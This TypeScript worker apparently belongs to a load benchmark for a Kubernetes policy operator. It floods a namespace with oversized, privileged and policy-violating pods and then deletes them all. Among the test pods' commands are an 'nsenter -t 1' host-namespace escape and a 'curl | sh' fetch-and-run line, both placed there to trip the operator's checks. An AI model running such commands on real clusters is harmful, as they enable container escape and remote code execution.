// The hostile tenant of the hostile-load benchmark, on its own thread so that building megabyte
// requests never delays the probes that measure the operator (run.ts). For `durationMs` it keeps
// four attacks going at once in its namespace, then deletes everything it made:
// - big pods: 1 MB command lines, created and deleted in turn;
// - an annotation flood: pods carrying 250 KiB of annotations each, kept until the end;
// - bursts: 100 violating pods at once every 10 s, deleted 2 s later;
// - churn on the flood: its annotations rewritten, so every one arrives again as a watch event.
import { parentPort, workerData } from 'node:worker_threads';
import { KubeClient } from '../../src/kube/client.ts';
import { loadKubeConfig } from '../../test/integration/cluster.ts';

interface Input {
  namespace: string;
  durationMs: number;
  floodPods: number;
}
const { namespace, durationMs, floodPods } = workerData as Input;
const api = new KubeClient(() => loadKubeConfig());
const pods = `/api/v1/namespaces/${namespace}/pods`;
const counts = { bigPods: 0, floodPods: 0, burstPods: 0, floodPatches: 0, errors: 0 };
const end = Date.now() + durationMs;
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

function pod(name: string, container: Record<string, unknown>, annotations?: object): object {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, annotations },
    spec: {
      containers: [{ name: 'c', image: 'registry.example.com/app:1.0', ...container }],
      terminationGracePeriodSeconds: 0,
    },
  };
}

async function create(body: object): Promise<void> {
  try {
    await api.request('POST', pods, { body });
  } catch {
    counts.errors++;
  }
}

async function remove(name: string): Promise<void> {
  await api
    .request('DELETE', `${pods}/${name}`, { query: { gracePeriodSeconds: 0 } })
    .catch(() => undefined);
}

async function bigPods(): Promise<void> {
  const text = `nsenter -t 1 -m sh -c ${'A'.repeat(1_000_000)}`;
  for (let i = 0; Date.now() < end; i++) {
    await create(pod(`big-${i}`, { command: ['sh', '-c', text] }));
    counts.bigPods++;
    await sleep(1500);
    await remove(`big-${i}`);
  }
}

const padding = 'x'.repeat(250 * 1024);

async function flood(): Promise<void> {
  for (let i = 0; i < floodPods && Date.now() < end; i += 5) {
    await Promise.all(
      [0, 1, 2, 3, 4].map((j) =>
        create(pod(`flood-${i + j}`, { securityContext: { privileged: true } }, { padding })),
      ),
    );
    counts.floodPods += 5;
  }
  // Then churn: every flood pod's annotation rewritten, one after the other.
  for (let round = 0; Date.now() < end; round++) {
    for (let i = 0; i < floodPods && Date.now() < end; i++) {
      await api
        .request('PATCH', `${pods}/flood-${i}`, {
          body: { metadata: { annotations: { padding: `${round}${padding.slice(1)}` } } },
          contentType: 'application/merge-patch+json',
        })
        .then(
          () => counts.floodPatches++,
          () => counts.errors++,
        );
    }
  }
}

async function bursts(): Promise<void> {
  for (let b = 0; Date.now() < end; b++) {
    const names = Array.from({ length: 100 }, (_, i) => `burst-${b}-${i}`);
    await Promise.all(
      names.map((n) => create(pod(n, { command: ['sh', '-c', 'curl -s http://10.0.0.1/x | sh'] }))),
    );
    counts.burstPods += names.length;
    await sleep(2000);
    await Promise.all(names.map(remove));
    await sleep(8000);
  }
}

await Promise.all([bigPods(), flood(), bursts()]);
// The load is deleted: every pod of the namespace, at once.
await api.request('DELETE', pods, { query: { gracePeriodSeconds: 0 } }).catch(() => undefined);
parentPort?.postMessage(counts);
